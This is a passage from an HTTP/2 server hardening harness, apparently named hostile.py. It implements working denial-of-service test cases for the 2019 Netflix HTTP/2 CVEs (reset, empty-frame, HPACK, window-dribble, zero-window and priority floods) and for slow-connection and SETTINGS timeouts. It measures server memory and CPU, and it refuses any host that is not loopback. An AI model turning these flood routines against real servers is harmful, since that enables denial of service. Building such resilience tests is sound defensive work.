      "(no END_STREAM)", "GOAWAY(ENHANCE_YOUR_CALM) after a few hundred")
def _(k):
    c = k.conn()
    c.send(f_headers(1, c.req_block("POST"), es=False), k.attack_end)
    empty = f_data(1, b"")
    k.flood(c, lambda i: empty, 100000, 1000)
    c.settle(time.monotonic() + SETTLE_S)
    return held_if_ended(k, c, "empty DATA frames")


@case("netflix/empty-headers",
      "CVE-2019-9518: up to 5000 new streams whose HEADERS carry an empty "
      "header block", "GOAWAY after a bounded number (resets alone are "
      "unbounded work)")
def _(k):
    c = k.conn()
    k.flood(c, lambda i: f_headers(1 + 2 * i, b""), 5000, 10, pause=0.001)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "empty HEADERS")
    return v, why + "; server sent %d RST_STREAM" % sum(c.rst_codes.values())


@case("netflix/reset-flood",
      "CVE-2019-9514: up to 20000 malformed requests (uppercase name), each "
      "drawing a RST_STREAM, never reading them",
      "GOAWAY, or reading stops with a bounded queue")
def _(k):
    c = k.conn(rcvbuf=4096)
    blk = c.req_block(extra=lit("X-Upper", "1"))
    k.flood(c, lambda i: f_headers(1 + 2 * i, blk), 20000, 20, pause=0.001,
            read=False)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "malformed requests")
    why += "; %d RST_STREAM received afterwards" % sum(c.rst_codes.values())
    return v, why


@case("netflix/zero-length-headers",
      "CVE-2019-9516: up to 200 requests each with 2000 fields of empty name "
      "and value, indexed (each an HPACK table insert)",
      "431 / reset / GOAWAY; no memory growth")
def _(k):
    c = k.conn()
    blk = c.req_block() + b"\x40\x00\x00" * 2000
    k.flood(c, lambda i: f_headers(1 + 2 * i, blk), 200, 1, pause=0.002)
    c.settle(time.monotonic() + SETTLE_S)
    return per_stream_refusal(k, c, c.items, "requests")


@case("netflix/zero-length-name",
      "CVE-2019-9516: up to 1000 requests with one field of empty name",
      "reset (malformed) and a bounded count, or GOAWAY")
def _(k):
    c = k.conn()
    blk = c.req_block() + lit("", "v")
    k.flood(c, lambda i: f_headers(1 + 2 * i, blk), 1000, 5, pause=0.001)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "requests")
    why += "; %d reset, %d answered" % (len(c.rst), c.answered())
    if v == "open" and c.answered() == 0 and len(c.rst) >= c.items:
        # Every stream was refused: bounded per stream, but nothing
        # limits the count.
        return "open", why + " (every stream reset, no limit on the count)"
    return v, why


@case("netflix/data-dribble-window",
      "CVE-2019-9511: 10 GETs for 100 kB with INITIAL_WINDOW_SIZE 1, then "
      "1-byte WINDOW_UPDATEs (up to 40000) so the server sends 1-byte DATA",
      "GOAWAY (window-update rate) or no 1-byte frame storm")
def _(k):
    c = k.conn(params={S_INITIAL_WINDOW_SIZE: 1})
    blk = c.req_block()
    n = 10
    c.send(b"".join(f_headers(1 + 2 * i, blk) for i in range(n)), k.attack_end)
    c.wait(time.monotonic() + 0.3)
    k.flood(c, lambda i: f_wu(1 + 2 * (i % n), 1), 40000, 200)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "1-byte WINDOW_UPDATEs")
    why += "; %d DATA frames received, %d bytes (smallest %s)" % (
        c.data_frames, c.data_bytes, c.data_min)
    return v, why


@case("netflix/data-dribble-body",
      "a POST whose body comes as 1-byte DATA frames, one every 100 ms",
      "the client timeout ends it eventually (longer than the budget)",
      slow=True)
def _(k):
    c = k.conn()
    c.send(f_headers(1, c.req_block("POST", lit_idx_name(28, "100000")),
                     es=False), k.attack_end)
    one = f_data(1, b"x")
    while c.items < 1200 and time.monotonic() < k.attack_end \
            and not c.ended and 1 not in c.rst:
        c.send(one, k.attack_end)
        c.items += 1
        c.wait(min(k.attack_end, time.monotonic() + 0.1))
    c.settle(time.monotonic() + SETTLE_S)
    if 1 in c.rst and not c.ended:
        return "held", "server reset the stream (%s) at %.1f s after %d " \
            "bytes" % (err_name(c.rst[1]), c.rst_first, c.items)
    return time_based(k, c, "took %d 1-byte DATA frames" % c.items)


def buffered(k, c, potential_kb, what):
    growth = None
    if k.info.get("rss_before") is not None and k.mon.rss_peak is not None:
        growth = k.mon.rss_peak - k.info["rss_before"]
    why = "%s; server RSS peak %s" % (
        what, "+%.1f MiB" % (growth / 1024.0) if growth is not None
        else "not measured (no --pid)")
    if c.ended:
        return "held", why + "; connection ended"
    if growth is None:
        return "open" if c.answered() else "held", why + \
            " (verdict from responses only)"
    if growth > potential_kb / 2:
        return "open", why + " (buffers the responses it cannot send)"
    return "held", why + " (bounded)"


@case("netflix/zero-window",
      "CVE-2019-9517: INITIAL_WINDOW_SIZE 0, 100 GETs for 100 kB, the "
      "window never opened; held for the budget",
      "bounded memory per connection (no whole responses buffered)")
def _(k):
    c = k.conn(params={S_INITIAL_WINDOW_SIZE: 0})
    blk = c.req_block()
    c.items = 100
    c.send(b"".join(f_headers(1 + 2 * i, blk) for i in range(100)),
           k.attack_end)
    c.wait(k.attack_end)
    what = "%d responses started, %d DATA bytes" % (c.answered(),
                                                     c.data_bytes)
    if k.mon.conns_peak is not None:
        what += ", %d backend connections at peak" % k.mon.conns_peak
    return buffered(k, c, 100 * 100000 // 1024, what)


@case("netflix/never-read",
      "CVE-2019-9517: windows opened to 2^31-1, 100 GETs for 100 kB, then "
      "the client never reads (4 KiB receive buffer)",
      "bounded memory per connection")
def _(k):
    c = k.conn(big_window=True, rcvbuf=4096)
    blk = c.req_block()
    c.items = 100
    c.send(b"".join(f_headers(1 + 2 * i, blk) for i in range(100)),
           k.attack_end)
    end = k.attack_end
    while time.monotonic() < end and not c.closed:   # never reads
        k.mon.sample()
        time.sleep(0.05)
    k.mon.sample(force=True)
    what = "never read for %.0f s" % k.budget
    if k.mon.conns_peak is not None:
        what += ", %d backend connections at peak" % k.mon.conns_peak
    return buffered(k, c, 100 * 100000 // 1024, what)


@case("netflix/priority-churn",
      "CVE-2019-9513: up to 100000 PRIORITY frames reshuffling 500 streams",
      "bounded work (priorities ignored) or GOAWAY")
def _(k):
    c = k.conn()
    frames = [f_priority(1 + 2 * (i % 500), 1 + 2 * ((i * 7 + 3) % 500),
                         i % 256, bool(i & 1)) for i in range(1000)]
    # A stream depending on itself would be a stream error: skip those.
    frames = [f if f[9:13] != f[5:9] else f_priority(1, 3) for f in frames]
    k.flood(c, lambda i: frames[i % 1000], 100000, 1000)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "PRIORITY frames")
    if v == "open":
        why += " (the server keeps accepting them; see its CPU time)"
    return v, why


@case("netflix/unknown-frames",
      "up to 100000 frames of an unknown type (0xfa, 8 bytes each), which "
      "a server must ignore", "bounded work (ignored) or GOAWAY")
def _(k):
    c = k.conn()
    f = frame(0xfa, 0, 0, b"hostile!")
    k.flood(c, lambda i: f, 100000, 1000)
    c.settle(time.monotonic() + SETTLE_S)
    v, why = held_if_ended(k, c, "unknown frames")
    if v == "open":
        why += " (the server keeps accepting them; see its CPU time)"
    return v, why


# ---------------------------------------------------------------------------
# Concurrency
# ---------------------------------------------------------------------------

@case("concurrency/over-max",
      "150 GETs in one write, over MAX_CONCURRENT_STREAMS (100)",
      "REFUSED_STREAM for the excess; at most the limit served")
def _(k):
    c = k.conn(big_window=True)
    limit = c.server_settings.get(S_MAX_CONCURRENT_STREAMS)
    blk = c.req_block()
    n = 150
    c.items = n
    c.send(b"".join(f_headers(1 + 2 * i, blk) for i in range(n)),
           k.attack_end)
    c.wait(k.attack_end, lambda: len(c.ended_streams | set(c.rst)) >= n)
    c.settle(time.monotonic() + SETTLE_S)
    refused = c.rst_codes.get(REFUSED_STREAM, 0)
    why = "advertised %s; %d answered, %d REFUSED_STREAM, other: %s" % (
        limit, c.answered(), refused, c.summary())
    if limit is None:
        return "open", why + " (no limit advertised)"
    if c.answered() <= limit and (refused or c.ended):
        return "held", why
    return "open", why


@case("concurrency/silent",
      "100 POSTs (content-length 10) whose bodies never come; then silence",
      "a timeout ends the streams or the connection (longer than the "
      "budget)", slow=True)
def _(k):
    c = k.conn()
    blk = c.req_block("POST", lit_idx_name(28, "10"))
    c.items = 100
    c.send(b"".join(f_headers(1 + 2 * i, blk, es=False) for i in range(100)),
           k.attack_end)
    c.wait(k.attack_end)
    what = "held 100 silent streams (%d answered by the backend before " \
        "their bodies)" % sum(1 for s in c.statuses.values()
                              if s.startswith("2"))
    if k.mon.conns_peak is not None:
        what += ", %d backend connections at peak" % k.mon.conns_peak
    timed_out = len(c.rst) + sum(1 for s in c.statuses.values()
                                 if s[:1] in ("4", "5"))
    if timed_out:
        return "held", "server ended %d streams itself (%s)" % (
            timed_out, c.summary())
    return time_based(k, c, what)


# ---------------------------------------------------------------------------
# Preface and SETTINGS
# ---------------------------------------------------------------------------

@case("preface/none", "connect and send nothing",
      "closed after the server's idle/header timeout", slow=True)
def _(k):
    c = k.conn(handshake=False)
    c.wait(k.attack_end)
    return time_based(k, c, "kept a silent connection")


@case("preface/partial", "send 10 bytes of the preface, then nothing",
      "closed after the server's idle/header timeout", slow=True)
def _(k):
    c = k.conn(handshake=False)
    c.send(PREFACE[:10], k.attack_end)
    c.wait(k.attack_end)
    return time_based(k, c, "kept a connection with a partial preface")


@case("settings/never-acked",
      "preface and SETTINGS, but the server's SETTINGS never acknowledged; "
      "a PING every 500 ms keeps the connection busy",
      "GOAWAY(SETTINGS_TIMEOUT) (moirai: after 10 s)", slow=True)
def _(k):
    c = k.conn(handshake=False, auto_ack=False)
    c.send(PREFACE + f_settings(), k.attack_end)
    i = 0
    while time.monotonic() < k.attack_end and not c.ended and i < 300:
        c.send(f_ping(struct.pack(">Q", i)), k.attack_end)
        i += 1
        c.items = i
        c.wait(min(k.attack_end, time.monotonic() + 0.5))
    if c.goaways and c.goaways[0]["code"] == SETTINGS_TIMEOUT:
        return "held", "GOAWAY(SETTINGS_TIMEOUT) at %.1f s" % \
            c.goaways[0]["t"]
    return time_based(k, c, "kept a connection whose SETTINGS were never "
                      "acknowledged (%d PINGs answered)" % c.ping_acks)


# ---------------------------------------------------------------------------
# Runner
# ---------------------------------------------------------------------------

def alive_check(opts, mon):
    """A fresh connection: GET / answered within 3 s."""
    t0 = time.monotonic()
    try:
        c = Conn(opts, mon, t0)
        try:
            c.handshake(big_window=True)
            c.send(f_headers(1, c.req_block()), t0 + 3)
            c.wait(t0 + 3, lambda: 1 in c.statuses)
            return c.statuses.get(1, "no answer")
        finally:
            c.close()
    except Inconclusive as e:
        return "no handshake (%s)" % e
    except OSError as e:
        return "connect failed: %s" % e


def run_case(cd, opts, mon):
    mon.reset()
    k = Ctx(opts, mon, cd["slow"])
    pid = opts.pid
    rss_before = proc_status(pid, "VmRSS") if pid else None
    hwm_before = proc_status(pid, "VmHWM") if pid else None
    cpu_before = proc_cpu_ms(pid) if pid else None
    conns_before = backend_conns(opts.backend_port) \
        if opts.backend_port else None
    k.info["rss_before"] = rss_before
    mon.sample(force=True)
    try:
        verdict, why = cd["fn"](k)
    except Inconclusive as e:
        verdict, why = "error", "inconclusive: %s" % e
    except (OSError, ssl.SSLError) as e:
        verdict, why = "error", "socket error: %s" % e
    except Exception as e:  # a bug in the case itself
        import traceback
        traceback.print_exc()
        verdict, why = "error", "exception: %s: %s" % (type(e).__name__, e)
    mon.sample(force=True)
    rss_after = proc_status(pid, "VmRSS") if pid else None
    hwm_after = proc_status(pid, "VmHWM") if pid else None
    cpu_after = proc_cpu_ms(pid) if pid else None
    seconds = time.monotonic() - k.t0
    conns = [c.record() for c in k.conns]
    seen = "; ".join(c.summary() for c in k.conns) or "nothing"
    for c in k.conns:
        c.close()
    alive = alive_check(opts, mon) if mon.alive() else "server process gone"
    res = dict(id=cd["id"], description=cd["description"],
               expected=cd["expected"], verdict=verdict, why=why, seen=seen,
               stop=k.info.get("stop"), seconds=round(seconds, 2),
               connections=conns, alive_after=alive)
    if pid:
        res["server"] = dict(
            rss_before_kb=rss_before, rss_peak_kb=mon.rss_peak,
            rss_after_kb=rss_after, hwm_before_kb=hwm_before,
            hwm_after_kb=hwm_after,
            cpu_ms=(cpu_after - cpu_before) if cpu_after is not None
            and cpu_before is not None else None)
    if opts.backend_port:
        res["backend_conns"] = dict(before=conns_before,
                                    peak=mon.conns_peak)
    return res


def fmt_mem(res):
    s = res.get("server")
    if not s or s["rss_before_kb"] is None:
        return ""
    peak = s["rss_peak_kb"] or s["rss_before_kb"]
    return " | RSS %.1f→peak %.1f→%.1f MiB, cpu %s ms" % (
        s["rss_before_kb"] / 1024.0, peak / 1024.0,
        (s["rss_after_kb"] or 0) / 1024.0, s["cpu_ms"])


def matches(cid, pattern):
    if any(ch in pattern for ch in "*?["):
        return fnmatch.fnmatch(cid, pattern)
    return cid == pattern or cid.startswith(pattern.rstrip("/") + "/") \
        or pattern in cid


SHORT = {"ENHANCE_YOUR_CALM": "EYC", "PROTOCOL_ERROR": "PROTOCOL",
         "COMPRESSION_ERROR": "COMPRESSION", "FLOW_CONTROL_ERROR": "FLOW",
         "REFUSED_STREAM": "REFUSED", "STREAM_CLOSED": "CLOSED",
         "SETTINGS_TIMEOUT": "SETTINGS_TIMEOUT", "NO_ERROR": "NO_ERROR",
         "FRAME_SIZE_ERROR": "FRAME_SIZE", "INTERNAL_ERROR": "INTERNAL"}


def cell(res):
    """One result as a table cell: verdict, then what the server did."""
    if res is None:
        return "—"
    parts = []
    gs = [g for c in res["connections"] for g in c["goaway"]]
    for g in gs[:1]:
        parts.append("GOAWAY(%s, last %d) %.2f s" % (
            SHORT.get(g["code_name"], g["code_name"]), g["last"], g["t"]))
    rst = collections.Counter()
    firsts = []
    for c in res["connections"]:
        rst.update(c["rst"])
        if c.get("rst_first_at") is not None:
            firsts.append(c["rst_first_at"])
    if rst:
        parts.append("RST " + ", ".join(
            "%d %s" % (n, SHORT.get(k, k)) for k, n in sorted(rst.items()))
            + (" from %.1f s" % min(firsts) if firsts and min(firsts) >= 1
               else ""))
    closes = [c for c in res["connections"] if c["closed_at"] is not None]
    if closes and not gs:
        parts.append("closed %.2f s" % closes[0]["closed_at"])
    if closes and closes[0]["close_how"].startswith("reset"):
        parts.append("closed by RST")
    st = collections.Counter()
    for c in res["connections"]:
        st.update(c["statuses"])
    if st:
        parts.append("answered " + ", ".join(
            "%d×%s" % (n, s) for s, n in sorted(st.items())))
    sent = sum(c["items_sent"] for c in res["connections"])
    at_end = [c["items_at_end"] for c in res["connections"]
              if c["items_at_end"] is not None]
    if at_end and at_end[0] < sent:
        parts.append("ended at %d/%d sent" % (at_end[0], sent))
    else:
        parts.append("%d sent" % sent)
    s = res.get("server")
    if s and s.get("rss_before_kb") is not None:
        peak = s["rss_peak_kb"] or s["rss_before_kb"]
        parts.append("RSS +%.1f MiB, CPU %s ms" % (
            (peak - s["rss_before_kb"]) / 1024.0, s["cpu_ms"]))
    b = res.get("backend_conns")
    if b and b.get("peak") is not None:
        parts.append("backend conns %s→peak %d" % (b["before"], b["peak"]))
    if res["alive_after"] != "200":
        parts.append("ALIVE CHECK: %s" % res["alive_after"])
    return "**%s** %s" % (res["verdict"], "; ".join(parts))


def compare(paths):
    runs = []
    for p in paths:
        with open(p) as fh:
            runs.append(json.load(fh))
    ids = []
    for r in runs:
        for c in r["cases"]:
            if c["id"] not in ids:
                ids.append(c["id"])
    by = [dict((c["id"], c) for c in r["cases"]) for r in runs]
    names = [os.path.splitext(os.path.basename(p))[0] for p in paths]
    print("| case | %s |" % " | ".join(names))
    print("|---|%s" % ("---|" * len(names)))
    for cid in ids:
        print("| `%s` | %s |" % (cid, " | ".join(
            cell(b.get(cid)) for b in by)))
    return 0


def main(argv):
    if argv and argv[0] == "compare":
        if len(argv) < 2:
            sys.stderr.write("usage: hostile.py compare A.json [B.json ...]\n")
            return 2
        return compare(argv[1:])
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--tls", action="store_true",
                    help="TLS with ALPN h2 (no certificate verification)")
    ap.add_argument("--json", metavar="OUT", help="write results as JSON")
    ap.add_argument("--only", metavar="PATTERN",
                    help="case id, prefix, substring or glob; several "
                    "separated by commas")
    ap.add_argument("--pid", type=int,
                    help="server process: RSS and CPU time from /proc")
    ap.add_argument("--backend-port", type=int,
                    help="count established connections to this port")
    ap.add_argument("--slow", action="store_true",
                    help="time-based cases wait %d s instead of %d s"
                    % (SLOW_S, ATTACK_S))
    ap.add_argument("--time-based", action="store_true",
                    help="only the time-based cases (those --slow extends)")
    ap.add_argument("--slow-seconds", type=float, default=SLOW_S,
                    help="the time-based cases' budget with --slow "
                    "(default %d; at most 120)" % SLOW_S)
    ap.add_argument("--authority", help=":authority (default HOST:PORT)")
    ap.add_argument("--list", action="store_true", help="list cases and exit")
    opts = ap.parse_args(argv)
    if not 0 < opts.slow_seconds <= 120:
        ap.error("--slow-seconds must be in (0, 120]")
    try:
        if not ipaddress.ip_address(opts.host).is_loopback:
            ap.error("HOST must be a loopback address")
    except ValueError:
        if opts.host != "localhost":
            ap.error("HOST must be a loopback address")
        opts.host = "127.0.0.1"
    opts.authority = opts.authority or "%s:%d" % (opts.host, opts.port)
    if opts.pid and not os.path.exists("/proc/%d" % opts.pid):
        ap.error("no process %d" % opts.pid)

    pats = [p for p in (opts.only or "").split(",") if p]
    cases = [cd for cd in CASES
             if (not pats or any(matches(cd["id"], p) for p in pats))
             and (cd["slow"] or not opts.time_based)]
    if opts.list:
        for cd in cases:
            print("%-32s %s" % (cd["id"], cd["description"]))
        return 0
    target = "%s:%d (%s)" % (opts.host, opts.port,
                             "h2/TLS" if opts.tls else "h2c")
    print("HTTP/2 hostile matrix: %d case(s) against %s%s" % (
        len(cases), target, ", --slow" if opts.slow else ""))
    mon = Monitor(opts.pid, opts.backend_port)
    started = time.monotonic()
    results = []
    for cd in cases:
        res = run_case(cd, opts, mon)
        results.append(res)
        print("%-5s %-30s %5.1fs | %s | seen: %s | alive after: %s%s" % (
            res["verdict"].upper(), res["id"], res["seconds"], res["why"],
            res["seen"], res["alive_after"], fmt_mem(res)))
        sys.stdout.flush()
    counts = collections.Counter(r["verdict"] for r in results)
    elapsed = time.monotonic() - started
    print("summary: %d cases, %d held, %d open, %d errors (%.1fs)" % (
        len(results), counts["held"], counts["open"], counts["error"],
        elapsed))
    if opts.json:
        with open(opts.json, "w") as fh:
            json.dump(dict(target=dict(host=opts.host, port=opts.port,
                                       tls=opts.tls, pid=opts.pid,
                                       slow=opts.slow),
                           summary=dict(total=len(results),
                                        seconds=round(elapsed, 1),
                                        **counts),
                           cases=results), fh, indent=2)
            fh.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
